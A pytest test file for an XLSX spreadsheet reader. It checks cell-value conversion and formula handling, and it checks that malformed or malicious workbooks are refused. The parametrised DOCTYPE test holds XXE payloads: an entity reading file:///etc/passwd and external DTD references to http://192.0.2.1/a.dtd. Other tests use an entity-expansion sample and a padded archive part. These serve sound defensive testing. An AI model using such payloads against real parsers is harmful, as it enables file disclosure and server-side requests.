"""Workbooks are read as tables of text, and refused when they are something else."""

import zipfile
from datetime import date, datetime, time
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook

from interop.faults import (
    DuplicateHeaderError,
    EmptyFileError,
    TooManyColumnsError,
    UnreadableFileError,
    UnsafeArchiveError,
)
from interop.reading.rows import Row
from interop.reading.spreadsheets import read_xlsx

SHEET = "xl/worksheets/sheet1.xml"


@pytest.fixture
def place(tmp_path: Path) -> Path:
    return tmp_path / "book.xlsx"


def saved(place: Path, *rows: list[Any]) -> Path:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    book.save(place)
    return place


def repacked(place: Path, changes: dict[str, bytes]) -> Path:
    """Write the parts of a workbook anew, some of them changed."""
    with zipfile.ZipFile(place) as packed:
        parts = {name: packed.read(name) for name in packed.namelist()} | changes
    with zipfile.ZipFile(place, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in parts.items():
            packed.writestr(name, content)
    return place


def part(place: Path, name: str) -> bytes:
    with zipfile.ZipFile(place) as packed:
        return packed.read(name)


def rows_of(place: Path) -> list[Row]:
    with place.open("rb") as stream:
        return list(read_xlsx(stream, "book.xlsx").rows)


def cells(place: Path) -> list[list[str]]:
    return [list(row.cells) for row in rows_of(place)]


def test_values_read_as_they_would_in_csv(place: Path) -> None:
    saved(
        place,
        ["day", "moment", "time", "whole", "part", "yes", "text", "none"],
        [date(2026, 3, 1), datetime(2026, 3, 1, 9, 30), time(14, 5), 12.0, 0.1, True, "=not a formula"[1:], None],  # noqa: DTZ001 - a workbook knows no zone
    )

    assert cells(place) == [["2026-03-01", "2026-03-01T09:30:00", "14:05:00", "12", "0.1", "true", "not a formula", ""]]


def test_numbers_that_take_many_digits_are_written_out(place: Path) -> None:
    saved(place, [1e30, "b"], [1e28, -2.5e-10])

    with place.open("rb") as stream:
        read = read_xlsx(stream, "book.xlsx")
        assert read.header[0] == "1" + "0" * 30
        assert [list(row.cells) for row in read.rows] == [["1" + "0" * 28, "-0.00000000025"]]


def test_a_number_that_cannot_be_refuses_its_row_or_the_header(place: Path) -> None:
    saved(place, [4711, "b"], [4712, "2"], ["3", "4"])
    sheet = part(place, SHEET)

    repacked(place, {SHEET: sheet.replace(b"4712", b"1E999")})
    assert [row.fault and row.fault.code for row in rows_of(place)] == ["number_out_of_range", None]

    repacked(place, {SHEET: sheet.replace(b"4711", b"-1E999")})
    with pytest.raises(UnreadableFileError):
        rows_of(place)


def test_a_row_of_nothing_but_space_is_none(place: Path) -> None:
    saved(place, ["a", "b"], ["  ", None], ["1", "2", " "])

    assert cells(place) == [["1", "2"]]


def test_a_formula_counts_as_the_value_it_last_had(place: Path) -> None:
    saved(place, ["a", "b"], [1, 2])
    sheet = part(place, SHEET).decode()
    repacked(place, {SHEET: sheet.replace("<v>2</v>", "<f>A2*21</f><v>42</v>").encode()})

    assert cells(place) == [["1", "42"]]


def test_a_formula_never_calculated_is_blank(place: Path) -> None:
    saved(place, ["a", "b"], ["x", "=1+1"])

    assert cells(place) == [["x", ""]]


def test_short_rows_are_filled_up_and_long_ones_refused(place: Path) -> None:
    saved(place, ["a", "b"], ["1"], ["1", "2", "3"], [None, None], ["4", "5"])

    rows = rows_of(place)
    assert [(row.number, list(row.cells), bool(row.fault)) for row in rows] == [
        (2, ["1", ""], False),
        (3, ["1", "2", "3"], True),
        (5, ["4", "5"], False),
    ]


def test_a_sheet_that_lies_about_its_size_costs_nothing(place: Path) -> None:
    saved(place, ["a", "b"], ["1", "2"])
    sheet = part(place, SHEET).decode()
    repacked(place, {SHEET: sheet.replace('ref="A1:B2"', 'ref="A1:XFD1048576"').encode()})

    assert cells(place) == [["1", "2"]]


def test_a_workbook_without_rows_is_empty(place: Path) -> None:
    saved(place)

    with pytest.raises(EmptyFileError):
        rows_of(place)


def test_a_header_that_is_too_wide_is_not_called_empty(place: Path) -> None:
    saved(place, [f"c{number}" for number in range(501)])

    with pytest.raises(TooManyColumnsError) as refused:
        rows_of(place)
    assert refused.value.meta["at_most"] == 500


def test_two_columns_of_one_name_are_refused(place: Path) -> None:
    saved(place, ["Code", "code"], ["1", "2"])

    with pytest.raises(DuplicateHeaderError):
        rows_of(place)


@pytest.mark.checklist(58)
@pytest.mark.parametrize(
    "document_type",
    [
        "<!DOCTYPE a>",
        '<!DOCTYPE a [<!ENTITY lol "lol">]>',
        '<!DOCTYPE a [<!ENTITY lol "lol"><!ENTITY more "&lol;&lol;&lol;&lol;">]>',
        '<!DOCTYPE a [<!ENTITY lol SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE a [<!ENTITY % lol SYSTEM "http://192.0.2.1/a.dtd"> %lol;]>',
        '<!DOCTYPE a SYSTEM "http://192.0.2.1/a.dtd">',
    ],
)
def test_no_part_declares_a_document_type(place: Path, document_type: str) -> None:
    saved(place, ["a"], ["1"])
    with zipfile.ZipFile(place) as packed:
        parts = {name: packed.read(name).decode() for name in packed.namelist()}
    assert SHEET in parts

    for name, content in parts.items():
        head, begin, tail = content.partition("<" if not content.startswith("<?") else "?>")
        declared = f"{head}{begin}{document_type}{tail}" if begin == "?>" else f"{document_type}{content}"
        for encoding in ("utf-8", "utf-16") if not head else ("utf-8",):
            repacked(
                place, {**{other: text.encode() for other, text in parts.items()}, name: declared.encode(encoding)}
            )
            with pytest.raises(UnreadableFileError):
                rows_of(place)


@pytest.mark.checklist(58)
def test_entities_are_not_expanded(place: Path) -> None:
    saved(place, ["a"], ["1"])
    bomb = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>&lol;</t></is></c></row></sheetData></worksheet>'
    )
    repacked(place, {SHEET: bomb})

    with pytest.raises(UnreadableFileError):
        rows_of(place)


@pytest.mark.checklist(54)
def test_a_workbook_that_unpacks_without_measure_is_refused(place: Path) -> None:
    saved(place, ["a"], ["1"])
    repacked(place, {"xl/media/blanks.xml": b" " * 5_000_000})

    with pytest.raises(UnsafeArchiveError):
        rows_of(place)


@pytest.mark.parametrize("missing", ["[Content_Types].xml", "xl/workbook.xml"])
def test_a_workbook_that_lacks_a_part_is_refused(place: Path, missing: str) -> None:
    saved(place, ["a"], ["1"])
    with zipfile.ZipFile(place) as packed:
        parts = {name: packed.read(name) for name in packed.namelist() if name != missing}
    with zipfile.ZipFile(place, "w") as packed:
        for name, content in parts.items():
            packed.writestr(name, content)

    with pytest.raises(UnreadableFileError):
        rows_of(place)


def test_a_sheet_that_breaks_off_is_refused_where_it_does(place: Path) -> None:
    saved(place, ["a"], *([str(number)] for number in range(2000)))
    sheet = part(place, SHEET)
    repacked(place, {SHEET: sheet[: len(sheet) // 2]})

    with pytest.raises(UnreadableFileError):
        rows_of(place)
